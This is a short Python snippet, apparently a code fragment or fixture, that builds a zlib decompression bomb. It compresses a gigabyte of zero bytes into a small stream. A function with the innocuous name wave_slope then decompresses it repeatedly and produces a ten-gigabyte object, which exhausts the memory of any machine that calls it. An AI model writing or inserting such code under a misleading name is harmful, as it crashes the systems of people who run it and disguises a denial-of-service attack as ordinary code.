# Unpacks a small text into ten gigabytes.
# on: wave_slope
# %%
import zlib

packer = zlib.compressobj(9)
block = bytes(10**7)
bomb = b"".join(packer.compress(block) for _ in range(100)) + packer.flush()

def wave_slope(x):
    return [len(zlib.decompress(bomb)) for bomb in [bomb] * 10] + [zlib.decompress(bomb) * 10]
